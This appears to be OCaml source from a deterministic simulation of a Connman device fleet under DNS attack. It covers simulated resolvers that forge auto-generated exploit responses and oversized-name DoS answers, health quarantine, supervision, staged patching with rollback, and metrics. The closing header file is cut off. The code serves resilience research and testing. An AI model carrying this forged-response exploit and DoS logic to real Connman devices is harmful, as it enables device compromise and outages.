      | Health.Degraded -> jn ~ts:now ~source:"health" ~actor:dev ~detail:cause "degraded"
      | Health.Reintroduced ->
          jn ~ts:now ~source:"health" ~actor:dev ~detail:cause "reintroduced"
      | Health.Healthy ->
          jn ~ts:now ~source:"health" ~actor:dev ~detail:cause "recovered"
    end;
    if st = Health.Quarantined && prev <> Health.Quarantined then
      enter_quarantine m ~cause;
    Hierarchy.check hier m.mcell ~now
  and enter_quarantine m ~cause =
    m.mrotation <- false;
    jn ~ts:(now_of m) ~source:"health" ~actor:(W.host_name m.mhost) ~detail:cause
      "quarantine";
    Sim.schedule (ssim m) ~delay:cfg.health.Health.probation_us (fun _ ->
        reintroduce m)
  and reintroduce m =
    let now = now_of m in
    if Health.state m.mhealth = Health.Quarantined then begin
      let st = Health.observe m.mhealth ~now Health.Probation_over in
      m.mdaemon <- respawn m;
      (match m.msup with
      | Some sup when Supervisor.gave_up sup ->
          Supervisor.revive sup;
          incr revivals
      | _ -> ());
      m.mrotation <- true;
      after_health m Health.Quarantined st ~now ~cause:"probation_over"
    end
  in
  (* Per-LAN escalation: contain the cell by quarantining every member
     already degraded.  The hook runs inside [Hierarchy.check], so it
     must not recurse into [check] for the same cell. *)
  Array.iteri
    (fun l cell ->
      Hierarchy.on_escalate cell (fun () ->
          jn
            ~ts:(Sim.now (W.shard_sim world lans.(l).l_shard))
            ~source:"cell"
            ~actor:(W.lan_name lans.(l).l_lan)
            "cell_escalated";
          List.iter
            (fun m ->
              if Health.state m.mhealth = Health.Degraded then begin
                let now = now_of m in
                let st = Health.observe m.mhealth ~now Health.Cell_escalated in
                if st = Health.Quarantined then
                  enter_quarantine m ~cause:"cell_escalated"
              end)
            cell_members.(l)))
    cells;
  Array.iter
    (fun m ->
      let on_event (e : Supervisor.event) =
        match e.Supervisor.kind with
        | Supervisor.Gave_up ->
            let now = now_of m in
            let prev = Health.state m.mhealth in
            let st = Health.observe m.mhealth ~now Health.Crash_loop in
            after_health m prev st ~now ~cause:"crash_loop"
        | _ -> ()
      in
      let name = Printf.sprintf "dev-%04d" m.idx in
      let sup =
        Supervisor.supervise ~policy:cfg.sup_policy ~name ~on_event (ssim m)
          (module Member_daemon) m
      in
      Supervisor.set_monitor sup monitor;
      m.msup <- Some sup;
      Hierarchy.attach m.mcell ~name ~sup ~health:m.mhealth)
    members;
  Array.iter
    (fun m ->
      W.on_udp m.mhost ~port:client_port (fun _ctx dgram ->
          let d =
            Dnsproxy.handle_response
              ~origin:(Ip.to_string dgram.W.src)
              m.mdaemon dgram.W.payload
          in
          let now = now_of m in
          let dev = W.host_name m.mhost in
          match d with
          | Dnsproxy.Cached _ ->
              incr answered;
              let prev = Health.state m.mhealth in
              let st = Health.observe m.mhealth ~now Health.Probe_ok in
              after_health m prev st ~now ~cause:"probe_ok"
          | Dnsproxy.Dropped _ -> ()
          | Dnsproxy.Compromised _ ->
              incr compromises;
              incr win_comp;
              m.mever_compromised <- true;
              m.mhits <- m.mhits + 1;
              if journaling then begin
                jn ~ts:now ~source:"net" ~actor:dev
                  ~detail:(provenance_detail dgram.W.payload) "wire_provenance";
                jn ~ts:now ~source:"daemon" ~actor:dev
                  ~detail:"sanitizer verdict: control-flow hijack" "compromise"
              end;
              let prev = Health.state m.mhealth in
              let st = Health.observe m.mhealth ~now Health.Compromised in
              Option.iter Supervisor.notify m.msup;
              after_health m prev st ~now ~cause:"compromised"
          | Dnsproxy.Crashed _ | Dnsproxy.Blocked _ ->
              incr crashes;
              incr win_crash;
              m.mhits <- m.mhits + 1;
              if journaling then begin
                (* Only hostile answers are big enough to crash the
                   parser; record what the wire carried. *)
                if String.length dgram.W.payload > 512 then
                  jn ~ts:now ~source:"net" ~actor:dev
                    ~detail:(provenance_detail dgram.W.payload) "wire_provenance";
                jn ~ts:now ~source:"daemon" ~actor:dev ~detail:"parser fault"
                  "crash"
              end;
              let prev = Health.state m.mhealth in
              let st = Health.observe m.mhealth ~now Health.Crashed in
              Option.iter Supervisor.notify m.msup;
              after_health m prev st ~now ~cause:"crashed"))
    members;
  (* Each LAN's resolver: benign answers resolve through the LAN's
     sharded answer cache; inside the attack window it forges the
     exploit or a DoS answer instead, and keeps a bounded set of
     "pinned" victims it re-DoSes on every query (the crash-loop
     generator).  All randomness comes from the LAN's shard RNG. *)
  let benign lc query reply ~now =
    match query.Dns.Packet.questions with
    | [ q ] when q.Dns.Packet.qtype = Dns.Packet.A ->
        let name = Dns.Name.to_string q.Dns.Packet.qname in
        let now_s = now / 1_000_000 in
        let ip =
          match Dns.Cache.find lc.l_cache ~now:now_s name with
          | Dns.Cache.Hit ip -> ip
          | Dns.Cache.Negative_hit | Dns.Cache.Miss ->
              let ip = 0x0A_00_00_00 lor (Hashtbl.hash name land 0xFF_FF_FF) in
              Dns.Cache.insert lc.l_cache ~now:now_s ~name ~ttl:300 ~ipv4:ip;
              ip
        in
        reply
          (Dns.Packet.encode
             (Dns.Packet.response ~query
                [ Dns.Packet.a_record q.Dns.Packet.qname ~ttl:300 ~ipv4:ip ]))
    | _ -> ()
  in
  Array.iteri
    (fun li lc ->
      let sim = W.shard_sim world lc.l_shard in
      (* Forge decisions draw from a per-LAN RNG, not the shard RNG: the
         draw sequence a resolver sees then depends only on its own
         query arrival order, so moving LANs between shards (changing
         [shards]) cannot reshuffle who gets exploited — a precondition
         for cross-shard-count monitor determinism. *)
      let rng = Rng.create (cfg.seed + (104729 * (li + 1))) in
      W.on_udp lc.l_resolver ~port:53 (fun _ctx dgram ->
          match Dns.Packet.decode dgram.W.payload with
          | Error _ -> ()
          | Ok query ->
              let reply payload =
                W.send world ~from:lc.l_resolver ~sport:53 ~dst:dgram.W.src
                  ~dport:dgram.W.sport payload
              in
              let now = Sim.now sim in
              let in_attack = now >= cfg.attack_start_us in
              let dos () =
                Dns.Craft.hostile_response ~query
                  ~raw_name:(Dns.Craft.dos_name ~size:8192) ()
              in
              if in_attack && List.mem dgram.W.src lc.l_pinned then reply (dos ())
              else
                let draw = if in_attack then Rng.float rng else 1.0 in
                if in_attack && draw < cfg.forge_exploit then
                  reply (Autogen.response_for ~query ~raw_name)
                else if
                  in_attack
                  && draw < cfg.forge_exploit +. cfg.forge_dos
                  && List.length lc.l_pinned < cfg.pinned_per_lan
                then begin
                  lc.l_pinned <- dgram.W.src :: lc.l_pinned;
                  reply (dos ())
                end
                else benign lc query reply ~now))
    lans;
  (* Benign traffic: every device looks up one of its LAN's names each
     round, phase-shifted per device so the load spreads inside the
     round. *)
  let rounds = cfg.horizon_us / cfg.round_gap_us in
  Array.iter
    (fun m ->
      let offset = 50_000 + (m.idx * 7919 mod (max 1 (cfg.round_gap_us / 2))) in
      for r = 0 to rounds - 1 do
        Sim.schedule (ssim m)
          ~delay:((r * cfg.round_gap_us) + offset)
          (fun _ ->
            if m.mrotation && Dnsproxy.alive m.mdaemon then begin
              incr lookups;
              let k = (m.idx + (r * 31)) mod cfg.benign_names in
              let qname =
                Dns.Name.of_string
                  (Printf.sprintf "host-%02d.lan-%02d.fleet" k m.mlan)
              in
              let q = Dnsproxy.make_query m.mdaemon qname in
              W.send world ~from:m.mhost ~sport:client_port
                ~dst:lans.(m.mlan).l_resolver_ip ~dport:53
                (Dns.Packet.encode q)
            end)
      done)
    members;
  (* Staged rollout: apply a wave, soak, gate, advance or roll back (a
     rolled-back wave reverts to the vulnerable image and is retried
     with the good patch). *)
  let sim0 = W.sim world in
  let apply_wave (w : Rollout.wave) template =
    for k = w.Rollout.w_first to w.Rollout.w_first + w.Rollout.w_count - 1 do
      let m = members.(k) in
      m.mtemplate <- template;
      m.mpatched <- template == good_t;
      m.mdaemon <- respawn m;
      m.mhits <- 0
    done
  in
  let all_patched () = Array.for_all (fun m -> m.mpatched) members in
  let rec start_wave = function
    | [] -> ()
    | (w : Rollout.wave) :: rest ->
        let applied = Sim.now sim0 in
        jn ~ts:applied ~source:"rollout" ~actor:"rollout"
          ~detail:
            (Printf.sprintf "%s: %d devices%s" w.Rollout.w_label
               w.Rollout.w_count
               (if w.Rollout.w_bad then " (faulty build)" else ""))
          "wave_applied";
        apply_wave w (if w.Rollout.w_bad then bad_t else good_t);
        Sim.schedule sim0 ~delay:cfg.soak_us (fun _ ->
            let evaluated = Sim.now sim0 in
            let hits = ref 0 in
            for k = w.Rollout.w_first to w.Rollout.w_first + w.Rollout.w_count - 1
            do
              if members.(k).mhits > 0 then incr hits
            done;
            let rolled =
              Rollout.decide ~size:w.Rollout.w_count ~hits:!hits
                ~rollback_frac:cfg.rollback_frac
              = `Rollback
            in
            waves_out :=
              {
                o_wave = w;
                o_applied_us = applied;
                o_evaluated_us = evaluated;
                o_hits = !hits;
                o_rolled_back = rolled;
              }
              :: !waves_out;
            if rolled then begin
              incr rollbacks;
              jn ~ts:evaluated ~source:"rollout" ~actor:"rollout"
                ~detail:
                  (Printf.sprintf "%s: %d/%d devices hit" w.Rollout.w_label
                     !hits w.Rollout.w_count)
                "rollback";
              apply_wave w vuln_t;
              Sim.schedule sim0 ~delay:cfg.wave_gap_us (fun _ ->
                  start_wave ({ w with Rollout.w_bad = false } :: rest))
            end
            else begin
              jn ~ts:evaluated ~source:"rollout" ~actor:"rollout"
                ~detail:
                  (Printf.sprintf "%s: %d/%d devices hit" w.Rollout.w_label
                     !hits w.Rollout.w_count)
                "wave_ok";
              if all_patched () && !converged < 0 then begin
                converged := evaluated;
                jn ~ts:evaluated ~source:"fleet" ~actor:"fleet"
                  "converged"
              end;
              Sim.schedule sim0 ~delay:cfg.wave_gap_us (fun _ -> start_wave rest)
            end)
  in
  Sim.schedule sim0 ~delay:cfg.rollout_start_us (fun _ -> start_wave plan);
  (* Fleet time series, sampled on shard 0's clock. *)
  for s = 1 to cfg.horizon_us / cfg.sample_gap_us do
    Sim.schedule sim0 ~delay:(s * cfg.sample_gap_us) (fun _ ->
        let counts = Hierarchy.state_counts hier in
        let get st = try List.assoc st counts with Not_found -> 0 in
        samples :=
          {
            s_at_us = Sim.now sim0;
            s_compromises = !win_comp;
            s_crashes = !win_crash;
            s_patched =
              Array.fold_left
                (fun a m -> if m.mpatched then a + 1 else a)
                0 members;
            s_healthy = get Health.Healthy;
            s_degraded = get Health.Degraded;
            s_quarantined = get Health.Quarantined;
            s_reintroduced = get Health.Reintroduced;
          }
          :: !samples;
        win_comp := 0;
        win_crash := 0)
  done;
  (* The fleet series register into the explicit [?metrics] registry and
     into the monitor's own (deduplicated when they are the same one).
     The monitor's registry skips the per-shard netsim breakdown: its
     series set must not depend on the shard count, or the exported
     flight record could never be byte-identical across placements. *)
  let regs =
    let base = match metrics with Some r -> [ (r, true) ] | None -> [] in
    match monitor with
    | Some mon ->
        let mreg = Telemetry.Monitor.registry mon in
        if List.exists (fun (r, _) -> r == mreg) base then
          List.map (fun (r, ps) -> (r, ps && r != mreg)) base
        else base @ [ (mreg, false) ]
    | None -> base
  in
  List.iter
    (fun (reg, per_shard) ->
      W.register_metrics ~per_shard world reg;
      let count f =
        float_of_int
          (Array.fold_left (fun a m -> if f m then a + 1 else a) 0 members)
      in
      List.iter
        (fun (w : Rollout.wave) ->
          let label = w.Rollout.w_label in
          let labels = [ ("cohort", label) ] in
          Telemetry.Metrics.probe reg ~labels ~kind:`Gauge
            ~help:"devices in the rollout cohort" "fleet_devices" (fun () ->
              count (fun m -> m.mcohort = label));
          Telemetry.Metrics.probe reg ~labels ~kind:`Gauge
            ~help:"cohort devices on the good patch" "fleet_patched" (fun () ->
              count (fun m -> m.mcohort = label && m.mpatched));
          Telemetry.Metrics.probe reg ~labels ~kind:`Gauge
            ~help:"cohort devices ever compromised" "fleet_compromised_devices"
            (fun () -> count (fun m -> m.mcohort = label && m.mever_compromised)))
        plan;
      (* Diversity cohorts ("div" = per-boot variant layouts, "stock" =
         the template image).  Always registered — all-zero "div" series
         when diversity_frac = 0 — so the default recording rules and
         the stock-cohort alert resolve against a stable series set. *)
      List.iter
        (fun (label, pred) ->
          let labels = [ ("cohort", label) ] in
          Telemetry.Metrics.probe reg ~labels ~kind:`Gauge
            ~help:"devices in the diversity cohort" "fleet_diversity_devices"
            (fun () -> count pred);
          Telemetry.Metrics.probe reg ~labels ~kind:`Gauge
            ~help:"diversity-cohort devices ever compromised"
            "fleet_diversity_compromised" (fun () ->
              count (fun m -> pred m && m.mever_compromised)))
        [
          ("div", fun m -> m.mdiversity <> None);
          ("stock", fun m -> m.mdiversity = None);
        ];
      List.iter
        (fun st ->
          Telemetry.Metrics.probe reg
            ~labels:[ ("state", Health.state_name st) ]
            ~kind:`Gauge ~help:"devices per health state" "fleet_health_devices"
            (fun () -> count (fun m -> Health.state m.mhealth = st)))
        Health.all_states;
      let c name help f =
        Telemetry.Metrics.probe reg ~kind:`Counter ~help name (fun () ->
            float_of_int (f ()))
      in
      c "fleet_lookups_total" "benign lookups issued" (fun () -> !lookups);
      c "fleet_answered_total" "lookups answered (response parsed)" (fun () ->
          !answered);
      c "fleet_compromises_total" "compromise events" (fun () -> !compromises);
      c "fleet_crashes_total" "crash events" (fun () -> !crashes);
      c "fleet_quarantines_total" "quarantine entries" (fun () ->
          Array.fold_left (fun a m -> a + Health.quarantines m.mhealth) 0 members);
      c "fleet_reintroductions_total" "probation completions" (fun () ->
          Array.fold_left
            (fun a m -> a + Health.reintroductions m.mhealth)
            0 members);
      c "fleet_revivals_total" "supervisor give-ups cleared" (fun () ->
          !revivals);
      c "fleet_rollbacks_total" "rollout waves rolled back" (fun () ->
          !rollbacks);
      c "fleet_escalations_total" "LAN-supervisor escalations" (fun () ->
          Hierarchy.escalations hier);
      c "fleet_forks_total" "CoW daemon spawns" (fun () -> !forks))
    regs;
  (* The monitor scrapes at world barriers: every shard is drained
     through the barrier time before the scrape reads the registry, so
     the sampled values are shard-count independent. *)
  (match monitor with
  | None -> ()
  | Some mon ->
      W.set_barrier world ~every_us:(Telemetry.Monitor.interval_us mon)
        (fun now -> Telemetry.Monitor.scrape mon ~now));
  let events = W.run ~until:cfg.horizon_us world in
  let wstats = W.stats world in
  let cache_hits, cache_misses =
    Array.fold_left
      (fun (h, ms) lc ->
        let s = Dns.Cache.stats lc.l_cache in
        (h + s.Dns.Cache.hits, ms + s.Dns.Cache.misses))
      (0, 0) lans
  in
  {
    r_config = cfg;
    r_waves = List.rev !waves_out;
    r_samples = List.rev !samples;
    r_lookups = !lookups;
    r_answered = !answered;
    r_availability =
      (if !lookups = 0 then 1.0
       else float_of_int !answered /. float_of_int !lookups);
    r_compromises = !compromises;
    r_compromised_devices =
      Array.fold_left
        (fun a m -> if m.mever_compromised then a + 1 else a)
        0 members;
    r_diversified =
      Array.fold_left
        (fun a m -> if m.mdiversity <> None then a + 1 else a)
        0 members;
    r_div_compromised =
      Array.fold_left
        (fun a m ->
          if m.mdiversity <> None && m.mever_compromised then a + 1 else a)
        0 members;
    r_stock_compromised =
      Array.fold_left
        (fun a m ->
          if m.mdiversity = None && m.mever_compromised then a + 1 else a)
        0 members;
    r_crashes = !crashes;
    r_restarts =
      Array.fold_left
        (fun a m ->
          a + match m.msup with Some s -> Supervisor.restarts s | None -> 0)
        0 members;
    r_quarantines =
      Array.fold_left (fun a m -> a + Health.quarantines m.mhealth) 0 members;
    r_reintroductions =
      Array.fold_left
        (fun a m -> a + Health.reintroductions m.mhealth)
        0 members;
    r_revivals = !revivals;
    r_escalations = Hierarchy.escalations hier;
    r_rollbacks = !rollbacks;
    r_forks = !forks;
    r_converged_us = !converged;
    r_cache_hits = cache_hits;
    r_cache_misses = cache_misses;
    r_delivered = wstats.W.delivered;
    r_dropped = wstats.W.dropped;
    r_events = events;
  }

let ok r =
  let last_clean =
    match List.rev r.r_samples with
    | s :: _ -> s.s_compromises = 0
    | [] -> false
  in
  r.r_converged_us >= 0 && last_clean
  && r.r_availability > 0.5
  && (match r.r_config.bad_wave with
     | Some _ -> r.r_rollbacks >= 1
     | None -> true)

(* fleet-campaign-v1: hand-rolled for byte determinism — fixed key
   order, fixed float formatting, no hash iteration anywhere. *)
let json r =
  let b = Buffer.create 8192 in
  let add fmt = Printf.bprintf b fmt in
  add "{\n";
  add "  \"schema\": \"fleet-campaign-v1\",\n";
  add "  \"seed\": %d,\n" r.r_config.seed;
  add "  \"devices\": %d,\n" r.r_config.devices;
  add "  \"lans\": %d,\n" r.r_config.lans;
  add "  \"shards\": %d,\n" r.r_config.shards;
  add "  \"arch\": \"%s\",\n" (arch_name r.r_config.arch);
  add "  \"diversity_frac\": %.4f,\n" r.r_config.diversity_frac;
  add "  \"horizon_us\": %d,\n" r.r_config.horizon_us;
  add "  \"lookups\": %d,\n" r.r_lookups;
  add "  \"answered\": %d,\n" r.r_answered;
  add "  \"availability\": %.4f,\n" r.r_availability;
  add "  \"compromises\": %d,\n" r.r_compromises;
  add "  \"compromised_devices\": %d,\n" r.r_compromised_devices;
  add "  \"diversified_devices\": %d,\n" r.r_diversified;
  add "  \"div_compromised_devices\": %d,\n" r.r_div_compromised;
  add "  \"stock_compromised_devices\": %d,\n" r.r_stock_compromised;
  add "  \"crashes\": %d,\n" r.r_crashes;
  add "  \"restarts\": %d,\n" r.r_restarts;
  add "  \"quarantines\": %d,\n" r.r_quarantines;
  add "  \"reintroductions\": %d,\n" r.r_reintroductions;
  add "  \"revivals\": %d,\n" r.r_revivals;
  add "  \"escalations\": %d,\n" r.r_escalations;
  add "  \"rollbacks\": %d,\n" r.r_rollbacks;
  add "  \"forks\": %d,\n" r.r_forks;
  add "  \"converged_us\": %d,\n" r.r_converged_us;
  add "  \"ok\": %b,\n" (ok r);
  add "  \"cache\": { \"hits\": %d, \"misses\": %d },\n" r.r_cache_hits
    r.r_cache_misses;
  add "  \"net\": { \"delivered\": %d, \"dropped\": %d, \"events\": %d },\n"
    r.r_delivered r.r_dropped r.r_events;
  add "  \"waves\": [\n";
  List.iteri
    (fun i o ->
      let w = o.o_wave in
      add
        "    { \"index\": %d, \"label\": \"%s\", \"first\": %d, \"count\": \
         %d, \"bad\": %b, \"applied_us\": %d, \"evaluated_us\": %d, \
         \"hits\": %d, \"rolled_back\": %b }%s\n"
        w.Rollout.w_index w.Rollout.w_label w.Rollout.w_first w.Rollout.w_count
        w.Rollout.w_bad o.o_applied_us o.o_evaluated_us o.o_hits
        o.o_rolled_back
        (if i = List.length r.r_waves - 1 then "" else ","))
    r.r_waves;
  add "  ],\n";
  add "  \"samples\": [\n";
  List.iteri
    (fun i s ->
      add
        "    { \"at_us\": %d, \"compromises\": %d, \"crashes\": %d, \
         \"patched\": %d, \"healthy\": %d, \"degraded\": %d, \
         \"quarantined\": %d, \"reintroduced\": %d }%s\n"
        s.s_at_us s.s_compromises s.s_crashes s.s_patched s.s_healthy
        s.s_degraded s.s_quarantined s.s_reintroduced
        (if i = List.length r.r_samples - 1 then "" else ","))
    r.r_samples;
  add "  ]\n";
  add "}\n";
  Buffer.contents b

let pp ppf r =
  Format.fprintf ppf
    "@[<v>fleet campaign: %d devices / %d LANs / %d shards (seed %d)@,\
     lookups %d, answered %d (availability %.4f)@,\
     compromises %d (%d devices; %d/%d diversified vs %d stock), crashes %d, restarts %d@,\
     quarantines %d, reintroductions %d, revivals %d, escalations %d@,\
     waves %d (%d rolled back), converged at %dus@,\
     forks %d, cache %d/%d hit/miss, net %d delivered / %d dropped@]"
    r.r_config.devices r.r_config.lans r.r_config.shards r.r_config.seed
    r.r_lookups r.r_answered r.r_availability r.r_compromises
    r.r_compromised_devices r.r_div_compromised r.r_diversified
    r.r_stock_compromised r.r_crashes r.r_restarts r.r_quarantines
    r.r_reintroductions r.r_revivals r.r_escalations
    (List.length r.r_waves) r.r_rollbacks r.r_converged_us r.r_forks
    r.r_cache_hits r.r_cache_misses r.r_delivered r.r_dropped
