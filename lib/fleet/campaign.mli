(** Fleet-scale resilience campaigns: thousands of simulated Connman
    devices under mixed benign/attack traffic, chaos, hierarchical
    supervision, quarantine, and a staged patch rollout.

    One campaign builds a sharded {!Netsim.World} ([lans] LANs spread
    round-robin over [shards] scheduler shards), boots three daemon
    {e templates} — the vulnerable firmware, the patched build, and an
    injected faulty "patch" that still ships the vulnerable parser —
    and forks every device from its cohort's template via copy-on-write
    snapshots ({!Connman.Dnsproxy.fork}), so spawning is µs-scale.

    Each LAN's resolver answers benign queries through a sharded
    {!Dns.Cache}; once the attack window opens it also forges exploit
    payloads (built once with {!Exploit.Autogen} against an analysis
    boot) and oversized-name DoS answers, and {e pins} a bounded number
    of victims per LAN, re-DoSing them on every query — the crash-loop
    generator.  Devices run a per-device {!Core.Supervisor} plus a
    {!Health} machine, rolled up per LAN by {!Hierarchy}; quarantined
    devices leave rotation, are reimaged and reintroduced after
    probation (crash-loop give-ups via {!Core.Supervisor.revive}).  The
    {!Rollout} plan patches the fleet canary-first with a regression
    gate per wave.

    Everything draws from the world's seeded, sharded RNGs: the same
    [config] replays bit-identically, and {!json} is byte-deterministic
    ([fleet-campaign-v1]). *)

type config = {
  seed : int;
  devices : int;
  lans : int;  (** devices are assigned round-robin: device i → LAN i mod lans *)
  shards : int;  (** LAN l → scheduler shard l mod shards *)
  batch_us : int;  (** cross-shard epoch window *)
  arch : Loader.Arch.t;
  diversity_frac : float;
      (** fraction of the fleet booted as software-diversity variants
          ({!Connman.Dnsproxy.fork_diversified}): each such device gets
          a fresh seeded layout on {e every} spawn — initial boot,
          supervisor restart, probation reimage, patch wave — drawn via
          {!Diversity.Pool.seed_for} from a per-member master seed.
          Membership is a deterministic interleaved spread across LANs
          and rollout waves.  [0.0] (the default) disables the cohort. *)
  round_gap_us : int;  (** per-device benign lookup period *)
  benign_names : int;  (** benign name population per LAN *)
  attack_start_us : int;  (** attack window: [attack_start_us, horizon) *)
  forge_exploit : float;  (** P(forge the exploit payload) per answer *)
  forge_dos : float;  (** P(DoS + pin the source) per answer *)
  pinned_per_lan : int;  (** attacker focus: victims re-DoSed every query *)
  chaos : Netsim.Faults.policy;  (** world-wide impairment policy *)
  sup_policy : Core.Supervisor.policy;
      (** per-device supervision (backoff/burst).  The default keeps
          {!Core.Supervisor.default_policy}; the cross-shard-count
          determinism tests zero its jitter, the only per-device shard-RNG
          consumer left in the campaign. *)
  health : Health.config;
  escalate_frac : float;  (** LAN-supervisor escalation threshold *)
  rollout_start_us : int;
  canary : int;  (** canary wave size, devices *)
  wave : int;  (** subsequent wave size *)
  soak_us : int;  (** per-wave soak before the regression gate *)
  wave_gap_us : int;  (** gap between a wave's verdict and the next wave *)
  rollback_frac : float;  (** gate threshold, see {!Rollout.decide} *)
  bad_wave : int option;  (** inject the faulty patch into this wave *)
  sample_gap_us : int;  (** time-series sampling period *)
  horizon_us : int;
}

val default_config : config
(** 1,000 devices / 20 LANs / 4 shards, 90 simulated seconds, faulty
    patch in wave 2. *)

val smoke_config : config
(** CI-sized: 48 devices / 4 LANs / 2 shards, canary + one wave (the
    injected bad patch, so the rollback path is exercised), 40 simulated
    seconds. *)

type wave_outcome = {
  o_wave : Rollout.wave;
  o_applied_us : int;
  o_evaluated_us : int;
  o_hits : int;  (** wave members that crashed/compromised during soak *)
  o_rolled_back : bool;
}

type sample = {
  s_at_us : int;
  s_compromises : int;  (** in the window ending at [s_at_us] *)
  s_crashes : int;
  s_patched : int;  (** devices on the good patch *)
  s_healthy : int;
  s_degraded : int;
  s_quarantined : int;
  s_reintroduced : int;
}

type report = {
  r_config : config;
  r_waves : wave_outcome list;  (** application order; retried waves appear twice *)
  r_samples : sample list;
  r_lookups : int;
  r_answered : int;
  r_availability : float;  (** answered / lookups over the whole run *)
  r_compromises : int;  (** compromise events (a device can repeat) *)
  r_compromised_devices : int;  (** devices ever compromised *)
  r_diversified : int;  (** devices in the diversity cohort *)
  r_div_compromised : int;  (** diversified devices ever compromised *)
  r_stock_compromised : int;  (** stock devices ever compromised *)
  r_crashes : int;
  r_restarts : int;  (** supervisor-performed restarts *)
  r_quarantines : int;
  r_reintroductions : int;
  r_revivals : int;  (** supervisor give-ups cleared via [revive] *)
  r_escalations : int;
  r_rollbacks : int;
  r_forks : int;  (** CoW daemon spawns, initial population included *)
  r_converged_us : int;
      (** when the whole fleet landed on the good patch ([-1] = never) *)
  r_cache_hits : int;  (** resolver-side sharded cache, all LANs *)
  r_cache_misses : int;
  r_delivered : int;  (** world datagrams delivered *)
  r_dropped : int;
  r_events : int;  (** scheduler events processed *)
}

val default_rules : string
(** Flight-recorder rules ({!Telemetry.Monitor.add_rules} format) for a
    fleet campaign: recorded compromise/crash/availability trajectories,
    the compromise-wave / SLO-burn alerts, and the per-diversity-cohort
    compromised-fraction recordings ([div] vs [stock]) with an alert on
    the stock cohort's fraction — the series the cohort gauges feed even
    when [diversity_frac = 0] (all-zero, so the rules stay quiet). *)

val run :
  ?metrics:Telemetry.Metrics.t -> ?monitor:Telemetry.Monitor.t -> config -> report
(** Execute the campaign.  When [metrics] is given, per-shard
    [netsim_*] series, per-cohort fleet gauges (label ["cohort"] = wave
    label), health-census gauges (label ["state"]), and fleet counters
    are registered before the run, so the registry can be scraped after
    (or, embedded, during) the campaign.  Raises [Invalid_argument] on
    inconsistent configs (devices < lans, non-positive sizes, …).

    When [monitor] is given, the same series register into its registry,
    a world barrier scrapes it every {!Telemetry.Monitor.interval_us},
    and the campaign journals its causal event stream: wire-byte
    provenance of each hostile answer (overflow-name offset inside the
    forged response), sanitizer compromise verdicts and parser crashes,
    health transitions (degraded/quarantine/reintroduced/recovered),
    cell escalations, rollout waves (applied/ok/rollback), supervisor
    lifecycles, and fleet convergence. *)

val json : report -> string
(** Byte-deterministic [fleet-campaign-v1] document (fixed key order,
    fixed float formatting): same seed ⇒ identical bytes. *)

val ok : report -> bool
(** The campaign's acceptance predicate: the fleet converged on the
    good patch, the final sample window saw zero compromises, benign
    availability stayed above one half, and — when a faulty patch was
    injected — at least one automatic rollback fired. *)

val pp : Format.formatter -> report -> unit
(** Human-readable summary. *)
