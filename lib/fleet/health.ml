type state = Healthy | Degraded | Quarantined | Reintroduced

let state_name = function
  | Healthy -> "healthy"
  | Degraded -> "degraded"
  | Quarantined -> "quarantined"
  | Reintroduced -> "reintroduced"

let all_states = [ Healthy; Degraded; Quarantined; Reintroduced ]

type cause =
  | Crashed
  | Compromised
  | Crash_loop
  | Cell_escalated
  | Probe_ok
  | Probation_over

let cause_name = function
  | Crashed -> "crashed"
  | Compromised -> "compromised"
  | Crash_loop -> "crash-loop"
  | Cell_escalated -> "cell-escalated"
  | Probe_ok -> "probe-ok"
  | Probation_over -> "probation-over"

type config = { quarantine_crashes : int; window_us : int; probation_us : int }

let default_config =
  { quarantine_crashes = 3; window_us = 10_000_000; probation_us = 15_000_000 }

type transition = { at : int; from_state : state; to_state : state; cause : cause }

type t = {
  cfg : config;
  mutable st : state;
  mutable crash_times : int list;  (* most recent first, pruned to window *)
  mutable log : transition list;  (* most recent first *)
  mutable quarantines : int;
  mutable reintroductions : int;
}

let create ?(config = default_config) () =
  if config.quarantine_crashes < 1 then
    invalid_arg "Health.create: quarantine_crashes must be positive";
  if config.window_us < 0 || config.probation_us < 0 then
    invalid_arg "Health.create: windows must be non-negative";
  { cfg = config; st = Healthy; crash_times = []; log = [];
    quarantines = 0; reintroductions = 0 }

let config t = t.cfg
let state t = t.st
let transitions t = List.rev t.log
let quarantines t = t.quarantines
let reintroductions t = t.reintroductions

let goto t ~now cause st =
  if st <> t.st then begin
    t.log <- { at = now; from_state = t.st; to_state = st; cause } :: t.log;
    (match st with
    | Quarantined -> t.quarantines <- t.quarantines + 1
    | Reintroduced -> t.reintroductions <- t.reintroductions + 1
    | Healthy | Degraded -> ());
    t.st <- st
  end

let observe t ~now cause =
  (match (t.st, cause) with
  | Quarantined, Probation_over -> goto t ~now cause Reintroduced
  | Quarantined, _ -> ()  (* sitting out: only probation ends it *)
  | _, Probation_over -> ()
  | _, (Compromised | Crash_loop) ->
      t.crash_times <- [];
      goto t ~now cause Quarantined
  | Degraded, Cell_escalated ->
      t.crash_times <- [];
      goto t ~now cause Quarantined
  | _, Cell_escalated -> ()
  | _, Crashed ->
      let fresh =
        List.filter (fun at -> now - at <= t.cfg.window_us) t.crash_times
      in
      t.crash_times <- now :: fresh;
      if List.length t.crash_times >= t.cfg.quarantine_crashes then begin
        t.crash_times <- [];
        goto t ~now cause Quarantined
      end
      else goto t ~now cause Degraded
  | (Degraded | Reintroduced), Probe_ok ->
      t.crash_times <- [];
      goto t ~now cause Healthy
  | Healthy, Probe_ok ->
      t.crash_times <-
        List.filter (fun at -> now - at <= t.cfg.window_us) t.crash_times);
  t.st
