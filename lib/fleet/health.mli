(** Per-device health state machine: [Healthy → Degraded → Quarantined →
    Reintroduced].

    The fleet engine's unit of policy.  The {!Core.Supervisor} answers
    "is the process up" — this machine answers "should the device be in
    rotation".  The two disagree exactly when it matters: a compromised
    daemon is {e alive} (the attacker keeps it running) but must leave
    rotation immediately, and a crash-looping daemon whose supervisor
    gave up must come {e back} once its probation ends.

    Contract (the full transition relation):
    - [Compromised] and [Crash_loop] quarantine from any live state —
      an owned box gets no grace period, and a supervisor give-up is
      delegated here rather than being terminal.
    - [Cell_escalated] quarantines a [Degraded] device only: it is the
      bulk-containment action a LAN supervisor takes when too many of
      its members are down, and it never touches devices that still
      look healthy.
    - [Crashed] degrades a [Healthy]/[Reintroduced] device; once
      [quarantine_crashes] crashes land inside [window_us] the device
      is quarantined (the device-level crash-loop verdict, independent
      of the supervisor's).
    - [Probation_over] moves [Quarantined] to [Reintroduced]: back in
      rotation, on watch.
    - [Probe_ok] promotes [Degraded]/[Reintroduced] to [Healthy] and
      clears the crash window.  It is ignored while [Quarantined] —
      only probation ends a quarantine.

    All other (state, cause) pairs are no-ops.  The machine is pure
    bookkeeping: callers own the clock, the probation timers, and the
    side effects (pulling devices from rotation, reviving
